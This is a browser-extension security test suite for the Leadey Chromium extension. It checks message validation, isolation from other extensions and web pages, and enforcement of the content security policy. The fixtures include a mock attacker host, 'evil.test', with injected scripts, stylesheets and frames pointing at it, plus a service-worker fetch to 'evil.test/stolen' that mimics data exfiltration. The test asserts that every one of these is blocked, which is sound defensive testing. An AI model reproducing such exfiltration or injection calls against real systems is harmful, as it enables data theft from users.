import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser } from '../../browsers/launch.ts';
import type { BrowserSession } from '../../browsers/session.ts';
import { certificate } from '../../demo-api/http/certificate.ts';
import { DEMO_KEY, type DemoApi, startDemoApi } from '../../demo-api/index.ts';
import { buildFor } from '../support/builds.ts';
import { connect } from '../support/connecting.ts';

interface Runtime {
  sendMessage(...args: unknown[]): Promise<unknown>;
}

describe('Who else may talk to the extension, and to whom it may talk, in chromium', () => {
  let api: DemoApi;
  let evil: Server;
  let visits: string[];
  let session: BrowserSession;
  let popup: Page;
  let folder: string;
  beforeAll(async () => {
    api = await startDemoApi({ tls: true, rateLimit: false });
    const { cert, key } = await certificate();
    visits = [];
    evil = createServer({ cert, key }, (request, response) => {
      visits.push(request.url ?? '');
      response.writeHead(200, { 'Content-Type': 'text/html', 'Access-Control-Allow-Origin': '*' });
      response.end('<!doctype html><title>Evil</title>');
    });
    evil.listen(0, '127.0.0.1');
    await once(evil, 'listening');
    folder = await mkdtemp(join(tmpdir(), 'leadey-stranger-'));
    session = await launchBrowser('chromium', {
      extensionDir: buildFor('chromium'),
      apiPort: api.port,
      lang: 'en-US',
      hosts: { 'evil.test': (evil.address() as AddressInfo).port },
    });
    popup = await session.openPopupPage();
    await connect(popup);
  });
  afterAll(async () => {
    await session?.close();
    await api?.close();
    evil?.closeAllConnections();
    evil?.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('a message of unknown shape gets an error, and the background goes on', async () => {
    const odd = [
      null,
      42,
      'disconnect',
      [],
      {},
      { type: 'read-key' },
      { type: 'connect', pasted: 5, forgetOnClose: 'no' },
      { type: 'load-leads', query: {}, maxAge: 0, caller: 'x', ahead: false },
      { type: 'load-lead', id: '' },
      { type: 'load-lead', id: 'x'.repeat(1_000_000) },
      { type: 'load-organization', maxAge: -1 },
      { type: '__proto__' },
    ];
    for (const message of odd) {
      const answer = await popup.evaluate(
        (sent) =>
          (globalThis as unknown as { chrome: { runtime: Runtime } }).chrome.runtime.sendMessage(sent),
        message,
      );
      expect(answer).toEqual({ ok: false, error: { kind: 'bad-request' } });
    }
    const answer = await popup.evaluate(
      (sent) => (globalThis as unknown as { chrome: { runtime: Runtime } }).chrome.runtime.sendMessage(sent),
      { type: 'load-organization', maxAge: 60_000 },
    );
    expect(answer).toMatchObject({ ok: true, value: { organization: { name: 'Acme Inc' } } });
    expect(JSON.stringify(answer)).not.toContain(DEMO_KEY);
  });

  test('another extension is not answered at all', async () => {
    await writeFile(
      join(folder, 'manifest.json'),
      JSON.stringify({ manifest_version: 3, name: 'Stranger', version: '1' }),
    );
    await writeFile(join(folder, 'page.html'), '<!doctype html><title>Stranger</title>');
    const id = await session.browser.installExtension(folder);
    const page = await session.browser.newPage();
    await page.goto(`chrome-extension://${id}/page.html`);
    const before = api.requests.length;
    const outcome = await page.evaluate(
      (ours) =>
        (globalThis as unknown as { chrome: { runtime: Runtime } }).chrome.runtime
          .sendMessage(ours, { type: 'load-organization', maxAge: 0 })
          .then(JSON.stringify, (error: Error) => `refused: ${error.message}`),
      session.extensionId,
    );
    expect(outcome).toMatch(/^refused: Could not establish connection/);
    expect(api.requests).toHaveLength(before);
  });

  test('a web page has no way to ask it, to read Leadey past it, or to frame it', async () => {
    const page = await session.browser.newPage();
    await page.goto('https://evil.test/');
    expect(
      await page.evaluate(() => typeof (globalThis as { chrome?: { runtime?: object } }).chrome?.runtime),
    ).toBe('undefined');
    const read = () =>
      fetch('https://backend.leadey.ai/v1/me').then(
        (answer) => answer.text(),
        () => 'refused',
      );
    expect(await page.evaluate(read)).toBe('refused');
    for (const path of ['popup.html', 'background.js', 'manifest.json', 'icons/16.png']) {
      const fetched = await page.evaluate(
        (address) =>
          fetch(address).then(
            () => 'read',
            () => 'refused',
          ),
        session.url(path),
      );
      expect(fetched).toBe('refused');
    }
    await page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, session.url('popup.html'));
    const framed = await page.waitForFrame((frame) => frame !== page.mainFrame());
    await expect.poll(() => framed.url()).not.toBe('');
    const text = await framed.evaluate(() => document.body?.textContent ?? '').catch(() => '');
    expect(text).not.toMatch(/Acme|Leads/);
  });

  test('the pages run and load nothing but what is in the package, and reach no host but Leadey', async () => {
    visits.length = 0;
    const stopped = await popup.evaluate(async () => {
      const expected = 7;
      const seen = new Set<string>();
      const { promise: allSeen, resolve } = Promise.withResolvers<void>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        seen.add(`${effectiveDirective} ${blockedURI}`);
        if (seen.size === expected) resolve();
      });
      const add = (name: string, properties: object) =>
        document.body.append(Object.assign(document.createElement(name), properties));
      add('script', { textContent: 'window.scripted = true' });
      add('script', { src: 'https://evil.test/a.js' });
      add('link', { rel: 'stylesheet', href: 'https://evil.test/a.css' });
      add('style', { textContent: 'body { color: red }' });
      add('img', { src: 'https://evil.test/a.png' });
      add('iframe', { src: 'https://evil.test/frame' });
      const refused = await fetch('https://evil.test/fetch').then(
        () => false,
        () => true,
      );
      await allSeen;
      return { seen: [...seen].sort(), refused, scripted: 'scripted' in window };
    });
    expect(stopped).toEqual({
      seen: [
        'connect-src https://evil.test/fetch',
        'frame-src https://evil.test',
        'img-src https://evil.test/a.png',
        'script-src-elem https://evil.test/a.js',
        'script-src-elem inline',
        'style-src-elem https://evil.test/a.css',
        'style-src-elem inline',
      ],
      refused: true,
      scripted: false,
    });
    expect(visits).toEqual([]);
  });

  test('the background reaches no host but Leadey', async () => {
    visits.length = 0;
    await popup.evaluate(
      (sent) => (globalThis as unknown as { chrome: { runtime: Runtime } }).chrome.runtime.sendMessage(sent),
      { type: 'load-organization', maxAge: 60_000 },
    );
    const target = await session.browser.waitForTarget((candidate) => candidate.type() === 'service_worker');
    const worker = await target.worker();
    const outcome = await worker?.evaluate(() =>
      fetch('https://evil.test/stolen').then(
        () => 'reached',
        (error: Error) => error.name,
      ),
    );
    expect(outcome).toBe('TypeError');
    expect(visits).toEqual([]);
  });
});
